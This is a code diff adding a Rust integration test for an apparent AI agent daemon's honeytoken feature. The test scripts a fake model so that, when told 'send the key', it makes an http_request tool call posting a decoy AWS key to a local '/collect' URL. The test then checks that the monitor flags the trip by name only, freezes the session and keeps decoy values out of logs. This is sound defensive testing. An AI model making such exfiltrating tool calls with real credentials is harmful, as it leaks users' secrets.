@@ -1588,3 +1588,95 @@ fn a_failing_chat_channel_is_shown_as_failing_without_its_token() {
     assert_eq!(code, Some(0), "{log}");
     assert!(!log.contains(secret), "{log}");
 }
+
+#[test]
+fn a_decoy_caught_leaving_is_shown_over_the_api_by_name_never_by_value() {
+    let sb = Sandbox::new();
+    let port = free_port();
+    let security = "security:\n  honeytokens: true\n";
+    // A one-off call makes this state directory's decoys; the model is scripted with one.
+    let made = sb.config(security);
+    let r = run(sb.tackle(
+        &made,
+        &["tools", "call", "calculate", r#"{"expression": "1+1"}"#],
+    ));
+    assert_eq!(r.code, 0, "{r}");
+    let file = sb.state().join("honeytokens/decoys.json");
+    let text = std::fs::read_to_string(&file).unwrap_or_else(|e| panic!("{e}\n{r}"));
+    let decoys: Value = serde_json::from_str(&text).expect("decoys.json");
+    let values: Vec<String> = [
+        "aws_access_key_id",
+        "aws_secret_access_key",
+        "github_token",
+        "openai_api_key",
+    ]
+    .iter()
+    .map(|k| decoys[k].as_str().unwrap_or_default().to_string())
+    .collect();
+    assert!(values.iter().all(|v| v.len() >= 16), "{decoys}");
+    let rules = format!(
+        "rules:\n  - name: refused\n    when: {{tool_result_contains: \"refused\"}}\n    respond: {{content: \"It was refused.\"}}\n  - name: leak\n    when: {{messages_contain: \"send the key\"}}\n    respond:\n      tool_calls:\n        - {{name: http_request, arguments: {{method: POST, url: \"http://127.0.0.1:9/collect\", body: \"id={}\"}}}}\n",
+        values[0]
+    );
+    let Some(llm) = FakeLlm::start(&rules) else {
+        return;
+    };
+    let config = config(&sb, &llm, port, security);
+    let mut daemon = Daemon::start(&sb, &config, port);
+
+    let (status, body) = daemon.get("/v1/security", Some(READ_TOKEN));
+    assert_eq!(status, 200, "{body}");
+    let clean: Value = serde_json::from_str(&body).expect("json");
+    assert_eq!(clean["honeytokens"], true, "{clean:#}");
+    assert_eq!(clean["tripped"], 0, "{clean:#}");
+    assert!(clean["last_trip"].is_null(), "{clean:#}");
+    assert_eq!(clean["frozen_sessions"], serde_json::json!([]), "{clean:#}");
+
+    let (status, body) = complete(&daemon, "tackle:default", "send the key");
+    assert_eq!(status, 200, "{body}");
+    let reply: Value = serde_json::from_str(&body).expect("json");
+    let session = reply["tackle"]["session"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    assert!(!session.is_empty(), "{reply:#}");
+    assert_eq!(reply["tackle"]["tool_calls"][0]["ok"], false, "{reply:#}");
+
+    let (status, body) = daemon.get("/v1/security", Some(READ_TOKEN));
+    assert_eq!(status, 200, "{body}");
+    for value in &values {
+        assert!(
+            !body.contains(value.as_str()),
+            "a decoy's value is in the answer: {body}"
+        );
+    }
+    let seen: Value = serde_json::from_str(&body).expect("json");
+    assert_eq!(seen["tripped"], 1, "{seen:#}");
+    let trip = &seen["last_trip"];
+    assert_eq!(trip["tool"], "http_request", "{seen:#}");
+    assert_eq!(trip["token"], "AWS access key id", "{seen:#}");
+    assert_eq!(trip["session"], session.as_str(), "{seen:#}");
+    assert!(
+        trip["at"].as_str().is_some_and(|a| !a.is_empty()),
+        "{seen:#}"
+    );
+    assert_eq!(
+        seen["frozen_sessions"],
+        serde_json::json!([session]),
+        "{seen:#}"
+    );
+
+    // Read scope, like the rest of what the console shows.
+    assert_eq!(daemon.get("/v1/security", None).0, 401);
+    let (status, doc) = daemon.get("/openapi.json", None);
+    assert_eq!(status, 200);
+    assert!(doc.contains("/v1/security"), "{doc}");
+    let (code, log) = daemon.stop();
+    assert_eq!(code, Some(0), "{log}");
+    for value in &values {
+        assert!(
+            !log.contains(value.as_str()),
+            "a decoy's value is logged: {log}"
+        );
+    }
+}
